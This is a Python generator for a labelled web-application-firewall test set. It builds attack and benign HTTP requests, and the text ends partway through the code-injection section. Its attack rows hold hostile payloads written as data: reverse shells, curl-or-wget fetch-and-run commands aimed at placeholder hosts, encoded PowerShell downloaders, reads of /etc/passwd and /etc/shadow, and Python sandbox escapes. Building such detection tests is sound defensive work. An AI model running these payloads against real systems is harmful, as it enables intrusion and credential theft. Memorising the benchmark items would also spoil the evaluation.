#!/usr/bin/env python3
# ruff: noqa
"""Generator for the blind WAF evaluation set ``waf_unseen_sixth.jsonl`` (source tag "v15").

Provenance
----------
Written blind on 2026-12-06 by a helper session that read none of the WAF's
rules, tests, documentation, benchmarks or corpora.  Every attack payload and
every benign request below was written by hand from general knowledge of
attack techniques and of ordinary web/API traffic; nothing was copied from a
payload list.  Only the Python standard library is used.

Determinism
-----------
All randomness comes from ``random.Random(606060)``; running the script twice
writes a byte-identical file (it is written next to this script).

Row conventions (one JSON object per line, keys in this order)
----------------------------------------------------------------
id         "v15-a-<category>-NNNN" (attacks) / "v15-b-<category>-NNNN" (benign),
           numbered per category from 0001.
label      "attack" or "benign".
category   attack: cmdi, code_injection, crlf, ldapi, log4shell, mail_injection,
           nosqli, path_traversal, php_injection, prototype_pollution, rfi, sqli,
           ssrf, ssti, xss, xxe.
           benign: benign_api_json, benign_base64, benign_code, benign_cookies,
           benign_files, benign_forms, benign_graphql, benign_headers, benign_jwt,
           benign_markdown, benign_prose, benign_richtext, benign_search, benign_urls.
method     GET / POST / PUT / PATCH / DELETE.
path       raw request path as sent on the wire (percent-encoded as needed).
query      raw query string without "?" ("" if none).
headers    header name -> value; always Host, User-Agent and Accept, plus
           Content-Type whenever there is a body.  Header and cookie values never
           carry raw CR/LF or non-ASCII characters (those are percent-encoded).
body       raw body ("" if none): JSON, x-www-form-urlencoded, multipart/form-data
           (boundary in Content-Type, CRLF line endings), XML or text/plain.
placement  query, query_key, path, json, json_key, form, header, cookie,
           multipart or xml -- where the interesting value sits.
payload    that value as the application receives it after the intended
           decoding: URL-decoding for query/form/path/cookie, JSON string
           unescaping for JSON, entity/CDATA decoding for XML text.  Header
           values are not decoded (payload == header value).  Inherently encoded
           evasions (double percent-encoding such as %252e, overlong UTF-8 such
           as %c0%af, IIS %u2216) keep the percent sequences literally.  NoSQL
           operator objects and prototype-pollution objects in JSON are given as
           the compact JSON text of the injected sub-document; bracket-syntax
           keys (query_key / form keys) are given as the decoded "key=value".
           For XXE the payload is the whole XML document.
hard       true for attacks that use an evasion and for benign rows that are
           deliberately false-positive-prone; false otherwise.
source     always "v15".
"""

import base64
import copy
import gzip
import hashlib
import json
import os
import re
import random
import sys
import zlib
import xml.etree.ElementTree as ET
from urllib.parse import parse_qsl, quote, quote_plus, unquote, unquote_plus

SEED = 606060
RNG = random.Random(SEED)
SOURCE = "v15"
OUT_PATH = os.path.join(os.path.dirname(os.path.abspath(__file__)), "waf_unseen_sixth.jsonl")

ATTACK_CATEGORIES = [
    "cmdi",
    "code_injection",
    "crlf",
    "ldapi",
    "log4shell",
    "mail_injection",
    "nosqli",
    "path_traversal",
    "php_injection",
    "prototype_pollution",
    "rfi",
    "sqli",
    "ssrf",
    "ssti",
    "xss",
    "xxe",
]
BENIGN_CATEGORIES = [
    "benign_api_json",
    "benign_base64",
    "benign_code",
    "benign_cookies",
    "benign_files",
    "benign_forms",
    "benign_graphql",
    "benign_headers",
    "benign_jwt",
    "benign_markdown",
    "benign_prose",
    "benign_richtext",
    "benign_search",
    "benign_urls",
]
PLACEMENTS = {"query", "query_key", "path", "json", "json_key", "form", "header", "cookie", "multipart", "xml"}
METHODS = {"GET", "POST", "PUT", "PATCH", "DELETE"}

PH = "@@PAYLOAD@@"  # sentinel marking where the payload goes in a template

# ----------------------------------------------------------------------------
# small random helpers (all drawing from RNG)
# ----------------------------------------------------------------------------
ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
HEXD = "0123456789abcdef"


def rhex(n):
    return "".join(RNG.choice(HEXD) for _ in range(n))


def ralnum(n):
    return "".join(RNG.choice(ALNUM) for _ in range(n))


def rdigits(n):
    return "".join(RNG.choice("0123456789") for _ in range(n))


def ruuid():
    h = rhex(32)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{RNG.choice('89ab')}{h[17:20]}-{h[20:32]}"


def rbytes(n):
    return bytes(RNG.randrange(256) for _ in range(n))


def b64(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.b64encode(data).decode("ascii")


def b64url(data):
    if isinstance(data, str):
        data = data.encode("utf-8")
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def deflate_b64(text):
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return b64(c.compress(text.encode("utf-8")) + c.flush())


def compact(obj):
    return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)


def php_str(s):
    return f's:{len(s.encode("utf-8"))}:"{s}";'


# ----------------------------------------------------------------------------
# user agents / accept values
# ----------------------------------------------------------------------------
UA_BROWSERS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Edg/130.0.0.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.6; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S911B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36",
]
UA_CLIENTS = [
    "curl/8.5.0",
    "curl/7.88.1",
    "python-requests/2.32.3",
    "okhttp/4.12.0",
    "Go-http-client/2.0",
    "Go-http-client/1.1",
    "PostmanRuntime/7.42.0",
    "axios/1.7.7",
    "Java/17.0.9",
    "Apache-HttpClient/4.5.14 (Java/11.0.21)",
    "Dart/3.5 (dart:io)",
    "ShopApp/5.12.1 (iPhone; iOS 18.1; Scale/3.00)",
    "insomnia/10.1.1",
    "aiohttp/3.10.10 Python/3.12",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "HarborBank/7.3.0 (Android 14; Pixel 7)",
    "Wget/1.21.4",
    "RestSharp/112.0.0.0",
]
ACCEPT_API = ["application/json", "application/json, text/plain, */*", "*/*", "application/json;charset=UTF-8"]
ACCEPT_HTML = [
    "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
]
ACCEPT_ENC = ["gzip, deflate, br", "gzip, deflate, br, zstd", "gzip", "gzip, deflate"]
ACCEPT_LANG = [
    "en-US,en;q=0.9",
    "en-GB,en;q=0.8",
    "de-DE,de;q=0.9,en;q=0.7",
    "fr-FR,fr;q=0.9",
    "es-ES,es;q=0.9,en;q=0.6",
    "nl-NL,nl;q=0.9,en-US;q=0.8",
]


def pick_ua():
    if RNG.random() < 0.55:
        return RNG.choice(UA_BROWSERS)
    return RNG.choice(UA_CLIENTS)


def make_headers(host, ua=None, accept=None, ctype=None, extra=None):
    ua = ua if ua is not None else pick_ua()
    if accept is None:
        accept = (
            RNG.choice(ACCEPT_HTML) if (ua.startswith("Mozilla") and RNG.random() < 0.35) else RNG.choice(ACCEPT_API)
        )
    h = {"Host": host, "User-Agent": ua, "Accept": accept}
    if ctype:
        h["Content-Type"] = ctype
    for k, v in (extra or {}).items():
        h[k] = v
    if "Accept-Encoding" not in h and RNG.random() < 0.5:
        h["Accept-Encoding"] = RNG.choice(ACCEPT_ENC)
    if "Accept-Language" not in h and ua.startswith("Mozilla") and RNG.random() < 0.4:
        h["Accept-Language"] = RNG.choice(ACCEPT_LANG)
    return h


# ----------------------------------------------------------------------------
# encoders
# ----------------------------------------------------------------------------
# characters a hand-typed attack URL (curl --path-as-is, Burp) commonly leaves raw
LITE_SAFE = "/:,'()*!@$~[]{}|^`<>\"\\"
PCT_RE = re.compile(r"%(?:[uU][0-9a-fA-F]{4}|[0-9a-fA-F]{2})")


def enc(value, mode="std", plus=False, safe=""):
    """Percent-encode a decoded value.

    std   : normal encoding (quote / quote_plus)
    lite  : leave punctuation raw the way attack tooling often does
    raw   : keep %XX / %uXXXX sequences already present in the value literally
            (overlong UTF-8, IIS %u) -- the payload keeps them too
    all   : every byte percent-encoded
    mixed : random subset of letters/digits encoded, random hex case
    """
    if mode == "std":
        return quote_plus(value, safe=safe) if plus else quote(value, safe=safe)
    if mode == "lite":
        s = LITE_SAFE + safe
        return quote_plus(value, safe=s) if plus else quote(value, safe=s)
    if mode == "raw":
        out, i = [], 0
        for m in PCT_RE.finditer(value):
            out.append(quote(value[i : m.start()], safe=LITE_SAFE + safe))
            out.append(m.group(0))
            i = m.end()
        out.append(quote(value[i:], safe=LITE_SAFE + safe))
        return "".join(out)
    if mode == "all":
        out = []
        for ch in value:
            if ch in safe:
                out.append(ch)
            else:
                out.extend("%%%02X" % b for b in ch.encode("utf-8"))
        return "".join(out)
    if mode == "mixed":
        out = []
        for ch in value:
            if ch in safe:
                out.append(ch)
            elif ch.isascii() and ch.isalnum() and RNG.random() < 0.55:
                out.append(ch)
            else:
                for b in ch.encode("utf-8"):
                    h = "%02x" % b
                    out.append("%" + (h.upper() if RNG.random() < 0.5 else h))
        return "".join(out)
    raise ValueError(mode)


def kenc(key, kmode="brackets"):
    """Encode a query/form key."""
    if kmode == "brackets":
        return quote(key, safe="[]$.")
    if kmode == "std":
        return quote(key, safe="")
    if kmode in ("all", "mixed", "lite"):
        return enc(key, kmode)
    raise ValueError(kmode)


def qpairs(pairs, plus=True):
    """Encode ordinary (non-payload) key/value pairs."""
    out = []
    for k, v in pairs:
        out.append(f"{quote(k, safe='[]')}={quote_plus(str(v)) if plus else quote(str(v), safe='')}")
    return out


def json_lit(s, mode="std"):
    """JSON string literal for s. mode 'u' escapes every non-alphanumeric char as \\uXXXX."""
    if mode == "std":
        return json.dumps(s, ensure_ascii=False)
    if mode == "ascii":
        return json.dumps(s)
    if mode == "u":
        out = ['"']
        for ch in s:
            if (ch.isascii() and ch.isalnum()) or ch == " ":
                out.append(ch)
            else:
                cp = ord(ch)
                if cp > 0xFFFF:
                    cp -= 0x10000
                    out.append("\\u%04x\\u%04x" % (0xD800 + (cp >> 10), 0xDC00 + (cp & 0x3FF)))
                else:
                    out.append("\\u%04x" % cp)
        out.append('"')
        return "".join(out)
    raise ValueError(mode)


def dumps(obj):
    """JSON body the way different clients serialise it (compact JS style or spaced Python style)."""
    if RNG.random() < 0.6:
        return json.dumps(obj, separators=(",", ":"), ensure_ascii=False)
    return json.dumps(obj, ensure_ascii=False)


def xml_text(s, mode="std"):
    if mode == "std":
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    if mode == "ent":
        out = []
        for ch in s:
            if ch.isascii() and ch.isalnum():
                out.append(ch)
            elif RNG.random() < 0.5:
                out.append("&#%d;" % ord(ch))
            else:
                out.append("&#x%x;" % ord(ch))
        return "".join(out)
    if mode == "cdata":
        return "<![CDATA[" + s + "]]>"
    raise ValueError(mode)


def find_path(obj, target, path=()):
    if isinstance(obj, dict):
        for k, v in obj.items():
            r = find_path(v, target, path + (k,))
            if r is not None:
                return r
    elif isinstance(obj, list):
        for i, v in enumerate(obj):
            r = find_path(v, target, path + (i,))
            if r is not None:
                return r
    elif obj == target:
        return path
    return None


def get_at(obj, path):
    for p in path:
        obj = obj[p]
    return obj


def set_at(obj, path, value):
    for p in path[:-1]:
        obj = obj[p]
    obj[path[-1]] = value


def has_key(obj, key):
    if isinstance(obj, dict):
        return key in obj or any(has_key(v, key) for v in obj.values())
    if isinstance(obj, list):
        return any(has_key(v, key) for v in obj)
    return False


def contains_sub(obj, sub):
    """True if sub is a node of obj, or its items are all present in some dict node."""
    if obj == sub:
        return True
    if isinstance(obj, dict):
        if isinstance(sub, dict) and sub and all(k in obj and obj[k] == v for k, v in sub.items()):
            return True
        return any(contains_sub(v, sub) for v in obj.values())
    if isinstance(obj, list):
        return any(contains_sub(v, sub) for v in obj)
    return False


def make_boundary():
    style = RNG.randrange(3)
    if style == 0:
        return "----WebKitFormBoundary" + ralnum(16)
    if style == 1:
        return "------------------------" + rhex(16)
    return "----geckoformboundary" + rhex(32)


def part(name, value, filename=None, ctype=None):
    return {"name": name, "value": value, "filename": filename, "ctype": ctype}


def build_multipart(parts, boundary):
    lines = []
    for p in parts:
        lines.append("--" + boundary)
        cd = f'Content-Disposition: form-data; name="{p["name"]}"'
        if p["filename"] is not None:
            cd += f'; filename="{p["filename"]}"'
        lines.append(cd)
        if p["ctype"]:
            lines.append("Content-Type: " + p["ctype"])
        lines.append("")
        lines.append(p["value"])
    lines.append("--" + boundary + "--")
    return "\r\n".join(lines) + "\r\n"


# ----------------------------------------------------------------------------
# row emission and validation
# ----------------------------------------------------------------------------
ROWS = []
COUNTERS = {}


def _printable_ascii(s):
    return all(0x20 <= ord(c) < 0x7F for c in s)


def emit(label, category, method, path, query, headers, body, placement, payload, hard):
    assert label in ("attack", "benign"), label
    assert category in (ATTACK_CATEGORIES if label == "attack" else BENIGN_CATEGORIES), category
    assert method in METHODS, method
    assert placement in PLACEMENTS, placement
    assert isinstance(payload, str) and payload, (category, payload)
    assert isinstance(hard, bool)
    assert (
        path.startswith("/") and _printable_ascii(path) and " " not in path and "?" not in path and "#" not in path
    ), path
    assert _printable_ascii(query) and " " not in query and "#" not in query, query
    for k in ("Host", "User-Agent", "Accept"):
        assert k in headers, (k, headers)
    if body:
        assert "Content-Type" in headers, (category, payload)
    for k, v in headers.items():
        assert _printable_ascii(k) and _printable_ascii(v), (k, v)
    key = (label, category)
    COUNTERS[key] = COUNTERS.get(key, 0) + 1
    rid = "v15-%s-%s-%04d" % ("a" if label == "attack" else "b", category, COUNTERS[key])
    ROWS.append(
        {
            "id": rid,
            "label": label,
            "category": category,
            "method": method,
            "path": path,
            "query": query,
            "headers": headers,
            "body": body,
            "placement": placement,
            "payload": payload,
            "hard": hard,
            "source": SOURCE,
        }
    )


FORM_CT = ["application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"]
JSON_CT = ["application/json", "application/json; charset=utf-8", "application/json;charset=UTF-8"]


class Gen:
    """Builds requests for one (label, category) with the payload in a given placement."""

    def __init__(self, label, category):
        self.label = label
        self.category = category

    def _emit(
        self,
        placement,
        payload,
        hard,
        host,
        path,
        method="GET",
        query="",
        body="",
        ctype=None,
        ua=None,
        accept=None,
        extra=None,
    ):
        headers = make_headers(host, ua=ua, accept=accept, ctype=ctype, extra=extra)
        emit(self.label, self.category, method, path, query, headers, body, placement, payload, hard)

    # -- query value -------------------------------------------------------
    def query(
        self,
        payload,
        hard,
        host,
        path,
        param,
        others=(),
        method="GET",
        mode="std",
        plus=False,
        body="",
        ctype=None,
        **kw,
    ):
        wire = enc(payload, mode, plus=plus)
        if mode != "raw":
            assert unquote_plus(wire) == payload, (payload, wire)
        items = qpairs(others)
        items.insert(RNG.randint(0, len(items)), f"{kenc(param)}={wire}")
        self._emit(
            "query", payload, hard, host, path, method=method, query="&".join(items), body=body, ctype=ctype, **kw
        )

    # -- query key (bracket syntax etc.) ----------------------------------
    def query_key(self, key, value, hard, host, path, others=(), kmode="brackets", method="GET", **kw):
        wire = f"{kenc(key, kmode)}={quote_plus(value)}"
        items = qpairs(others)
        items.insert(RNG.randint(0, len(items)), wire)
        self._emit("query_key", f"{key}={value}", hard, host, path, method=method, query="&".join(items), **kw)

    # -- path segment(s) --------------------------------------------------
    def path(
        self, payload, hard, host, template, mode="std", safe="", query="", method="GET", body="", ctype=None, **kw
    ):
        wire = enc(payload, mode, safe=safe)
        if mode != "raw":
            assert unquote(wire) == payload, (payload, wire)
        self._emit(
            "path",
            payload,
            hard,
            host,
            template.replace("{}", wire),
            method=method,
            query=query,
            body=body,
            ctype=ctype,
            **kw,
        )

    # -- JSON string value ------------------------------------------------
    def json(self, payload, hard, host, path, body, method="POST", mode="std", query="", ctype=None, **kw):
        loc = find_path(body, PH)
        assert loc is not None, body
        text = dumps(body).replace(json.dumps(PH), json_lit(payload, mode), 1)
        assert get_at(json.loads(text), loc) == payload
        self._emit(
            "json",
            payload,
            hard,
            host,
            path,
            method=method,
            query=query,
            body=text,
            ctype=ctype or RNG.choice(JSON_CT),
            **kw,
        )

    def json_at(self, hard, host, path, body, at, method="POST", **kw):
        """Mark an existing value of body (at key path `at`) as the payload."""
        b = copy.deepcopy(body)
        payload = get_at(b, at)
        set_at(b, at, PH)
        self.json(payload, hard, host, path, b, method=method, **kw)

    # -- JSON key (string) --------------------------------------------------
    def jkey(self, payload, hard, host, path, body, method="POST", query="", ctype=None, **kw):
        assert has_key(body, payload), payload
        self._emit(
            "json_key",
            payload,
            hard,
            host,
            path,
            method=method,
            query=query,
            body=dumps(body),
            ctype=ctype or RNG.choice(JSON_CT),
            **kw,
        )

    # -- JSON operator / pollution object ---------------------------------
    def jobj(
        self, sub, hard, host, path, body, placement="json", transform=None, method="POST", query="", ctype=None, **kw
    ):
        text = json.dumps(body, separators=(",", ":"), ensure_ascii=False)
        if transform:
            t2 = transform(text)
            assert t2 != text
            text = t2
        assert contains_sub(json.loads(text), sub), (sub, text)
        self._emit(
            placement,
            compact(sub),
            hard,
            host,
            path,
            method=method,
            query=query,
            body=text,
            ctype=ctype or RNG.choice(JSON_CT),
            **kw,
        )

    # -- urlencoded form field ---------------------------------------------
    def form(self, payload, hard, host, path, field, others=(), method="POST", mode="std", query="", **kw):
        wire = enc(payload, mode, plus=True)
        items = qpairs(others)
        items.insert(RNG.randint(0, len(items)), f"{kenc(field)}={wire}")
        body = "&".join(items)
        if mode != "raw":
            assert (field, payload) in parse_qsl(body, keep_blank_values=True), (field, payload)
        self._emit(
            "form", payload, hard, host, path, method=method, query=query, body=body, ctype=RNG.choice(FORM_CT), **kw
        )

    def form_key(self, key, value, hard, host, path, others=(), kmode="brackets", method="POST", **kw):
        items = qpairs(others)
        items.insert(RNG.randint(0, len(items)), f"{kenc(key, kmode)}={quote_plus(value)}")
        self._emit(
            "form",
            f"{key}={value}",
            hard,
            host,
            path,
            method=method,
            body="&".join(items),
            ctype=RNG.choice(FORM_CT),
            **kw,
        )

    # -- header -------------------------------------------------------------
    def header(self, payload, hard, host, path, name, method="GET", query="", body="", ctype=None, **kw):
        extra = dict(kw.pop("extra", None) or {})
        ua = kw.pop("ua", None)
        accept = kw.pop("accept", None)
        if name == "User-Agent":
            ua = payload
        elif name == "Accept":
            accept = payload
        elif name == "Content-Type":
            ctype = payload
        else:
            extra[name] = payload
        self._emit(
            "header",
            payload,
            hard,
            host,
            path,
            method=method,
            query=query,
            body=body,
            ctype=ctype,
            ua=ua,
            accept=accept,
            extra=extra,
            **kw,
        )

    # -- cookie -------------------------------------------------------------
    def cookie(
        self, payload, hard, host, path, name, others=(), mode="std", method="GET", query="", body="", ctype=None, **kw
    ):
        wire = enc(payload, mode, safe="" if mode in ("std", "all") else "/:=")
        if mode != "raw":
            assert unquote(wire) == payload, (payload, wire)
        pairs = [f"{k}={v}" for k, v in others]
        pairs.insert(RNG.randint(0, len(pairs)), f"{name}={wire}")
        extra = dict(kw.pop("extra", None) or {})
        extra["Cookie"] = "; ".join(pairs)
        self._emit(
            "cookie", payload, hard, host, path, method=method, query=query, body=body, ctype=ctype, extra=extra, **kw
        )

    # -- multipart ------------------------------------------------------------
    def multipart(self, payload, hard, host, path, parts, method="POST", query="", **kw):
        parts = [dict(p) for p in parts]
        for p in parts:
            for k in ("name", "value", "filename"):
                if p[k] is not None and PH in p[k]:
                    p[k] = p[k].replace(PH, payload)
        ok = any(payload in (p["value"], p["filename"], f"{p['name']}={p['value']}") for p in parts)
        assert ok, payload
        b = make_boundary()
        self._emit(
            "multipart",
            payload,
            hard,
            host,
            path,
            method=method,
            query=query,
            body=build_multipart(parts, b),
            ctype=f"multipart/form-data; boundary={b}",
            **kw,
        )

    # -- XML element text -----------------------------------------------------
    def xml(
        self, payload, hard, host, path, template, mode="std", method="POST", ctype="application/xml", query="", **kw
    ):
        body = template.replace("{v}", xml_text(payload, mode))
        root = ET.fromstring(body)
        assert any((el.text or "") == payload for el in root.iter()), (payload, body)
        self._emit("xml", payload, hard, host, path, method=method, query=query, body=body, ctype=ctype, **kw)

    # -- anything else: caller supplies the full body ---------------------------
    def raw(self, placement, payload, hard, host, path, body, ctype, method="POST", query="", **kw):
        self._emit(placement, payload, hard, host, path, method=method, query=query, body=body, ctype=ctype, **kw)


# ============================================================================
# ATTACKS
# ============================================================================
A = lambda cat: Gen("attack", cat)

CSV_STUB = "sku,qty,price\r\nMUG-01,2,12.50\r\nTEE-RED-M,1,19.99\r\n"
TXT_STUB = "Quarterly notes\nNothing unusual this week.\n"
SVG_STUB = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="16" height="16"><circle cx="8" cy="8" r="7" fill="#3a7"/></svg>'
)
PS_CMD = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
PS_B64 = base64.b64encode(PS_CMD.encode("utf-16-le")).decode("ascii")


def attacks_cmdi():
    g = A("cmdi")
    ping = ("tools.netprobe.io", "/api/v1/diag/ping")
    trace = ("tools.netprobe.io", "/api/v1/diag/traceroute")
    dig = ("dns.webcheckr.com", "/lookup")
    router = ("192.168.1.1", "/cgi-bin/diagnostic.cgi")
    heat = ("gw.smartheat.home", "/admin/tools.cgi")
    cam = ("cam-204.iot.acmesec.io", "/api/v2/network/traceroute")
    nas = ("nas01.homeoffice.lan", "/api/backup/jobs")
    win = ("nas-admin.corpfiles.net", "/admin/network/test.aspx")

    g.query("8.8.8.8; cat /etc/passwd", False, *ping, "host", [("count", "4")])
    g.query("127.0.0.1 && id", False, *ping, "host", [("count", "2"), ("timeout", "5")], mode="lite")
    g.query("10.0.0.1`uname -a`", False, *trace, "target", [("max_hops", "20")], mode="lite")
    g.query("127.0.0.1\nid", True, *ping, "host", [("count", "1")])
    g.query("example.com;cat${IFS}/etc/shadow", True, *dig, "domain", [("type", "A")], mode="lite")
    g.query("example.org;{cat,/etc/passwd}", True, *dig, "domain", [("type", "MX")], mode="lite")
    g.query("127.0.0.1;/???/c?t /???/p?ss??", True, *ping, "host", [("count", "3")])
    g.query("1.1.1.1;w'h'o'am'i", True, *ping, "host", [], mode="lite")
    g.query("127.0.0.1 || curl http://203.0.113.50/x.sh | sh", True, *ping, "host", [("count", "4")], mode="mixed")
    g.query(r"127.0.0.1;$'\x63\x61\x74' /etc/passwd", True, *trace, "target", [])
    g.query(
        "report.txt & ping -n 20 127.0.0.1",
        False,
        "intranet.contoso-legal.com",
        "/docs/preview.aspx",
        "file",
        [("v", "2")],
    )
    g.query(
        "8.8.4.4;cat${HOME:0:1}etc${HOME:0:1}passwd",
        True,
        "status.fleetops.net",
        "/api/healthcheck",
        "probe",
        [("proto", "icmp")],
    )
    g.query_key("$(id)", "1", False, "img.picturely.app", "/api/convert", [("src", "cat.png"), ("format", "webp")])

    g.form(
        "192.168.1.1;wget http://198.51.100.23/bins/mips -O /tmp/m;chmod 777 /tmp/m;/tmp/m",
        False,
        *router,
        "ping_addr",
        [("action", "ping"), ("count", "3")],
    )
    g.form(r"127.0.0.1&&c\a\t /etc/passwd", True, *heat, "ip", [("tool", "ping")])
    g.form("1.1.1.1;a=ca;b=t;$a$b /etc/hosts", True, *heat, "ip", [("tool", "traceroute")])
    g.form(
        "8.8.8.8 & type C:\\Windows\\win.ini",
        False,
        *win,
        "hostname",
        [("__VIEWSTATE", "dDwtMTI3OTMzNDM4NDs7Pg=="), ("btnTest", "Test")],
    )
    g.form("127.0.0.1 | powershell -nop -w hidden -enc " + PS_B64, True, *win, "hostname", [("btnTest", "Test")])
    g.form(
        "127.0.0.1;who$@ami", True, "192.168.0.254", "/goform/SysToolPing", "pingAddr", [("submit-url", "/tools.asp")]
    )

    g.json("8.8.8.8;bash -i >& /dev/tcp/203.0.113.77/4444 0>&1", False, *cam, {"target": PH, "max_hops": 15})
    g.json(
        "127.0.0.1;echo " + b64("curl -s http://203.0.113.9/p|sh") + "|base64 -d|sh",
        True,
        *cam,
        {"target": PH, "proto": "udp"},
    )
    g.json("127.0.0.1 && id", True, *cam, {"target": PH}, mode="u")
    g.json(
        "nightly.tgz;nc 198.51.100.4 9001 -e /bin/sh",
        False,
        *nas,
        {"name": "nightly", "destination": PH, "schedule": "0 3 * * *"},
    )
    g.json(
        "--upload-pack=touch /tmp/owned",
        True,
        "ci.buildhive.dev",
        "/api/v1/mirrors",
        {"repo_url": PH, "branch": "main"},
    )
    g.json(
        "-o /var/www/html/sh.php http://203.0.113.5/sh.txt",
        True,
        "api.feedmill.io",
        "/v1/fetch",
        {"source": PH, "timeout": 10},
    )
    g.json(
        "logs.tar --checkpoint=1 --checkpoint-action=exec=sh /tmp/x.sh",
        True,
        *nas,
        {"archive": PH, "compress": False},
        method="PUT",
    )
    g.json(
        "*.log -exec sh -c 'curl 203.0.113.5|sh' {} ;",
        True,
        "ops.fleetctl.net",
        "/api/cleanup",
        {"pattern": PH, "older_than_days": 30},
    )
    g.json(
        "-oProxyCommand=sh -c 'curl 203.0.113.8|sh' x",
        True,
        "deploy.buildhive.dev",
        "/api/targets/test",
        {"host": PH, "user": "deploy", "port": 22},
    )

    g.header(
        '() { :;}; /bin/bash -c "cat /etc/passwd"', False, "legacy.crestline-cu.org", "/cgi-bin/status.sh", "User-Agent"
    )
    g.header("() { ignored; }; echo; /usr/bin/id", False, "legacy.crestline-cu.org", "/cgi-bin/test-cgi", "Referer")
    g.header(
        "cam01`id`", False, *cam, "X-Device-Name", method="POST", body='{"target":"8.8.8.8"}', ctype="application/json"
    )
    g.header("1;sleep${IFS}15", True, "api.tasklane.io", "/v2/projects", "X-Api-Version")

    g.cookie(
        "en_US;curl${IFS}-d${IFS}@/etc/passwd${IFS}203.0.113.3",
        True,
        *heat,
        "locale",
        [("sid", "8f3c2a91d0")],
        mode="lite",
    )
    g.cookie("$(sleep 7)", False, "192.168.1.1", "/cgi-bin/luci", "sysauth_theme", [("sysauth", "a3f9e1c07b2d")])

    g.multipart(
        "report.pdf;curl http://203.0.113.60/s|sh;.txt",
        False,
        "files.docuvault.com",
        "/upload",
        [part("file", TXT_STUB, PH, "text/plain"), part("folder", "inbox")],
    )
    g.multipart(
        "64x64;ping -c 5 198.51.100.1",
        False,
        "img.picturely.app",
        "/api/v1/thumbnails",
        [part("size", PH), part("image", SVG_STUB, "icon.svg", "image/svg+xml")],
    )

    g.xml(
        "127.0.0.1;cat /etc/passwd",
        False,
        "cam-311.iot.acmesec.io",
        "/api/device/diagnostics",
        '<?xml version="1.0" encoding="UTF-8"?><diagnostic><ping><host>{v}</host><count>3</count></ping></diagnostic>',
    )
    g.xml(
        "127.0.0.1&&id",
        True,
        "cam-311.iot.acmesec.io",
        "/api/device/diagnostics",
        '<?xml version="1.0" encoding="UTF-8"?><diagnostic><ping><host>{v}</host><count>1</count></ping></diagnostic>',
        mode="ent",
    )

    g.path("app.log;cat /etc/passwd", False, "ops.fleetctl.net", "/api/v1/logs/download/{}")
    g.path("example.com||id", False, "dns.webcheckr.com", "/tools/nslookup/{}", mode="lite")


def attacks_code_injection():
    g = A("code_injection")
    calc = ("calc.mathdesk.app", "/api/evaluate")
    rules = ("rules.ledgerly.app", "/api/v1/rules")
    pricing = ("api.shipmatic.io", "/v1/pricing/preview")
    flow = ("workflow.relaybox.dev", "/api/steps")
    jvm = ("rules.bankcore.io", "/engine/v2/conditions")
    ruby = ("labs.gemworks.io", "/api/sandbox")

    g.query("__import__('os').system('id')", False, *calc, "expr", [("precision", "4")])
    g.query("__import__('os').popen('cat /etc/passwd').read()", False, *calc, "expr", [])
    g.query("getattr(__import__('o'+'s'),'sys'+'tem')('id')", True, *calc, "expr", [("precision", "2")], mode="lite")
    g.query("__import__(bytes.fromhex('6f73').decode()).system('whoami')", True, *calc, "expr", [])
    g.query(
        "eval(__import__('base64').b64decode('" + b64("__import__('os').system('id')") + "'))",
        True,
        *calc,
        "expr",
        [("format", "json")],
    )
    g.json(
        "[c for c in ().__class__.__base__.__subclasses__() if c.__name__=='Popen'][0]('id',shell=True)",
        True,
        *rules,
        {"name": "high-value", "condition": PH, "action": "flag"},
    )
    g.json(
        "__builtins__.__dict__['ev'+'al'](\"__import__('os').system('ls /')\")",
        True,
        *rules,
        {"name": "weekend", "condition": PH, "action": "hold"},
    )
    g.json("subprocess.check_output(['cat','/etc/passwd'])", False, *pricing, {"expression": PH, "currency": "EUR"})
    g.json(
        "exec(\"import os;os.system('curl 203.0.113.4/x|sh')\")", False, *pricing, {"expression": PH, "currency": "USD"}
    )
    pickle_gadget = b"cposix\nsystem\n(S'curl -s 203.0.113.5/p|sh'\ntR."
    g.cookie(b64(pickle_gadget), True, "notebook.datagrove.io", "/api/session/restore", "state", [("nb_sid", rhex(24))])

    g.query(
        "require('child_process').execSync('id').toString()",
        False,
        "api.reportly.dev",
        "/v1/widgets/render",
        "transform",
        [("widget", "sales")],
    )
    g.json(
        "process.mainModule.require('child_process').exec('curl 203.0.113.6/x|sh')",
        False,
        *flow,
        {"type": "code", "script": PH},
    )
    g.json(
        "global.process.mainModule.constructor._load('child_process').execSync('ls')",
        True,
        *flow,
        {"type": "code", "script": PH, "timeout_ms": 500},
    )
    g.json(
        "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')",
        False,
